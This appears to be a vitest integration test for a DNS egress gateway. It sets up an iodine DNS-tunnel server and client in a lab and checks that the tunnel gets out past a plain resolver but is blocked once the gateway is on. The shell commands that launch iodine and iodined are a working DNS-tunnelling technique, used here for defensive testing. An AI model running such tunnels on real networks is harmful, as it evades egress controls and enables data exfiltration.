import { existsSync } from 'node:fs'
import { onTestFinished, expect, test } from 'vitest'
import { guard, inside } from './scene.ts'
import { scrape } from './scrape.ts'
import { useLab } from './shared-lab.ts'
import type { LabContainer } from './container.ts'

/**
 * A tunnel within DNS: a server of ours answers for a zone, and a container that may ask any resolver has a way out to it. Without the gateway it
 * works, which is why the gateway is there.
 */

const lab = useLab({ name: 'tunnel' })

const SERVER = '203.0.113.77'
const ZONE = 't.tunnel.example'
const INSIDE = '10.99.0.1'

async function startTunnelServer(): Promise<void> {
  await lab().inet.dns({ [`*.${ZONE}`]: { forward: SERVER } })
  const server = lab().service('internet', [
    'iodined',
    '-f',
    '-c',
    '-P',
    'secret',
    '-l',
    SERVER,
    `${INSIDE}/24`,
    ZONE,
  ])
  onTestFinished(async () => {
    await server.stop('SIGKILL')
  })
  await lab().waitFor('the tunnel server listens', async () => server.log.includes('Listening to dns'))
}

const client = (): Promise<LabContainer> =>
  inside(lab(), {
    caps: ['NET_ADMIN'],
    host: {
      Devices: [{ PathOnHost: '/dev/net/tun', PathInContainer: '/dev/net/tun', CgroupPermissions: 'rwm' }],
    },
  })

/** Bytes that come back through the tunnel, by whatever type of question the client finds to work. */
async function tunnels(from: LabContainer, server: string): Promise<boolean> {
  const { stdout } = await from.exec(
    [
      'sh',
      '-c',
      `iodine -f -r -P secret ${server} ${ZONE} >/tmp/iodine.log 2>&1 & pid=$!
       for i in $(seq 20); do
         sleep 0.5
         ping -c 1 -W 1 ${INSIDE} >/dev/null 2>&1 && { echo through; break; }
         kill -0 $pid 2>/dev/null || break
       done
       kill -9 $pid 2>/dev/null; cat /tmp/iodine.log`,
    ],
    { timeoutMs: 60_000 },
  )
  return stdout.startsWith('through')
}

/** A kernel without tunnels, and a release without the program, have nothing to show here. */
const canTunnel = ['/dev/net/tun', '/usr/sbin/iodined'].every((path) => existsSync(path))

test.skipIf(!canTunnel)(
  'iodine gets out past a resolver, and no byte past the gateway',
  { timeout: 240_000 },
  async () => {
    await startTunnelServer()
    const daemon = await guard(lab(), { config: 'allow: [allowed.example]' })
    expect(await tunnels(await client(), ''), 'past the resolver in use').toBe(true)

    await daemon.hup("dns: { gateway: true }\nallow: [allowed.example, '**.any.example']")
    const from = await client()
    await lab().waitFor('the gateway answers', async () => {
      const { stdout } = await from.exec(['dig', '+tries=1', '+time=1', 'forbidden.example'])
      return stdout.includes('EDE: 15 (Blocked)')
    })
    await lab().inet.forget()
    for (const server of ['', SERVER]) expect(await tunnels(from, server), server).toBe(false)
    expect((await lab().inet.queries()).filter(({ name }) => name.toLowerCase().endsWith(ZONE))).toEqual([])
    expect(await lab().farEnd.count(SERVER)).toBe(0)
    expect((await scrape(lab())).value('dns_queries_total', { outcome: 'denied' })).toBeGreaterThan(0)
  },
)
